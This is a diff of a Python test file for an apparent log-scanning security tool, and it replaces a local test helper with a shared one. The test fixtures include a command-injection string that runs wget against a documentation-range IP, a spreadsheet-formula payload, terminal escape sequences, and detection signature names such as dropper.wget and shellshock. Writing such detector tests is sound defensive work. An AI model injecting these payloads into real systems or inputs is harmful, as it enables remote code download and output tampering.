@@ -7,7 +7,7 @@ import gzip
 import io
 import json
 
-from conftest import GOOD_PACK, REAL_APACHE_LINES, SAMPLE_LOGS, combined_line
+from conftest import GOOD_PACK, REAL_APACHE_LINES, SAMPLE_LOGS, cli_run, combined_line
 from dropscan.cli import app
 
 JSONL_KEYS = {
@@ -32,13 +32,9 @@ JSONL_KEYS = {
 }
 
 
-def run(runner, args, **kw):
-    return runner.invoke(app, args, catch_exceptions=False, **kw)
-
-
 def test_scan_sample_logs(runner, tmp_path):
     summary = tmp_path / "s.json"
-    r = run(runner, ["scan", str(SAMPLE_LOGS), "--format", "jsonl", "--summary", str(summary)])
+    r = cli_run(runner, ["scan", str(SAMPLE_LOGS), "--format", "jsonl", "--summary", str(summary)])
     assert r.exit_code == 1, r.stderr
     recs = [json.loads(x) for x in r.stdout.splitlines()]
     assert recs and all(JSONL_KEYS <= set(x) for x in recs)
@@ -69,7 +65,7 @@ def test_scan_sample_logs(runner, tmp_path):
 
 
 def test_offsets_and_line_numbers_point_at_the_line(runner):
-    r = run(runner, ["scan", str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
+    r = cli_run(runner, ["scan", str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
     data = (SAMPLE_LOGS / "access.log").read_bytes()
     lines = data.splitlines(keepends=True)
     for x in map(json.loads, r.stdout.splitlines()):
@@ -79,12 +75,12 @@ def test_offsets_and_line_numbers_point_at_the_line(runner):
 def test_clean_input_exits_0(runner, tmp_path):
     p = tmp_path / "access.log"
     p.write_bytes(combined_line("/index.html") * 3)
-    r = run(runner, ["scan", str(p), "-f", "jsonl"])
+    r = cli_run(runner, ["scan", str(p), "-f", "jsonl"])
     assert (r.exit_code, r.stdout) == (0, "")
 
 
 def test_missing_file_is_one_line_exit_2_and_others_still_scanned(runner, tmp_path):
-    r = run(runner, ["scan", str(tmp_path / "nope.log"), str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
+    r = cli_run(runner, ["scan", str(tmp_path / "nope.log"), str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
     assert r.exit_code == 2
     assert r.stdout.count("\n") > 3  # findings of the readable file
     assert r.stderr.strip().splitlines() == [f"dropscan: error: {tmp_path / 'nope.log'}: no such file or directory"]
@@ -125,7 +121,7 @@ def test_stdin_and_rejects(runner, tmp_path):
     data = b"".join(ln + b"\n" for ln in REAL_APACHE_LINES[:3]) + b"\n".join(junk) + b"\n"
     rej = tmp_path / "rejects.log"
     summary = tmp_path / "s.json"
-    r = run(
+    r = cli_run(
         runner,
         ["scan", "-", "-f", "jsonl", "-l", "combined", "--rejects", str(rej), "--summary", str(summary)],
         input=gzip.compress(data),
@@ -140,7 +136,7 @@ def test_not_a_log_file(runner, tmp_path):
     p = tmp_path / "notes.log"
     p.write_bytes(b"dear diary\nwget is great\n\x89PNG\r\n")
     s = tmp_path / "s.json"
-    r = run(runner, ["scan", str(p), "-f", "jsonl", "--summary", str(s)])
+    r = cli_run(runner, ["scan", str(p), "-f", "jsonl", "--summary", str(s)])
     assert (r.exit_code, r.stdout) == (2, "") and "no known log format" in r.stderr
     # named but not a log: an error, and not scanned as raw text (--log-format says what it is)
     summary = json.loads(s.read_text())
@@ -151,7 +147,7 @@ def test_not_a_log_file(runner, tmp_path):
 def test_csv_is_formula_guarded(runner, tmp_path):
     p = tmp_path / "access.log"
     p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a", ua='=HYPERLINK("http://x")'))
-    r = run(runner, ["scan", str(p), "-f", "csv"])
+    r = cli_run(runner, ["scan", str(p), "-f", "csv"])
     rows = list(csv.DictReader(io.StringIO(r.stdout)))
     assert rows[0]["user_agent"] == '\'=HYPERLINK("http://x")'
     assert rows[0]["dest_host"] == "203.0.113.9" and rows[0]["dest_port"] == "80"
@@ -161,7 +157,7 @@ def test_table_escapes_control_characters_and_markup(runner, tmp_path):
     p = tmp_path / "access.log"
     ua = "\x1b]0;pwned\x07[link=http://evil]x[/link]\x1b[2J"
     p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a", referer=ua, ua=ua))
-    r = run(runner, ["scan", str(p), "-f", "table", "--defang"])
+    r = cli_run(runner, ["scan", str(p), "-f", "table", "--defang"])
     assert "\x1b" not in r.stdout and "\x07" not in r.stdout
     assert "hxxp://203.0.113[.]9" in r.stdout
 
@@ -169,25 +165,25 @@ def test_table_escapes_control_characters_and_markup(runner, tmp_path):
 def test_defang_keeps_json_exact(runner, tmp_path):
     p = tmp_path / "access.log"
     p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a"))
-    r = run(runner, ["scan", str(p), "-f", "jsonl", "--defang"])
+    r = cli_run(runner, ["scan", str(p), "-f", "jsonl", "--defang"])
     assert json.loads(r.stdout)["egress"][0]["url"] == "http://203.0.113.9/a"
 
 
 def test_explain(runner):
     line = REAL_APACHE_LINES[0].decode()
-    r = run(runner, ["explain", line])
+    r = cli_run(runner, ["explain", line])
     assert r.exit_code == 1
     assert "MATCH dropper.wget (critical) on view url: http://198.51.100.7:80" in r.stdout
     assert "MATCH shellshock.command" in r.stdout
-    r = run(runner, ["explain", "--json", REAL_APACHE_LINES[1].decode()])
+    r = cli_run(runner, ["explain", "--json", REAL_APACHE_LINES[1].decode()])
     assert r.exit_code == 0 and json.loads(r.stdout)["finding"] is None
 
 
 def test_signatures_list_and_test(runner):
-    r = run(runner, ["signatures", "list", "--format", "jsonl"])
+    r = cli_run(runner, ["signatures", "list", "--format", "jsonl"])
     ids = [json.loads(x)["id"] for x in r.stdout.splitlines()]
     assert "dropper.wget" in ids and len(ids) == len(set(ids)) >= 25
-    r = run(runner, ["signatures", "test"])
+    r = cli_run(runner, ["signatures", "test"])
     assert r.exit_code == 0, r.stdout
     assert "0 example failure(s), 0 lint failure(s)" in r.stdout
 
@@ -197,5 +193,5 @@ def test_signatures_test_fails_on_a_broken_pack(runner, tmp_path):
     examples = 'match: ["/x?a=;foo"], no_match: ["/x?a=foo"]'
     broken = GOOD_PACK.replace(examples, 'match: ["/x?a=;bar"], no_match: ["/x?a=;foo"]')
     (tmp_path / "p.yaml").write_text(broken)
-    r = run(runner, ["signatures", "test", str(tmp_path)])
+    r = cli_run(runner, ["signatures", "test", str(tmp_path)])
     assert r.exit_code == 1 and "FAIL my.rule match" in r.stdout and "FAIL my.rule no_match" in r.stdout
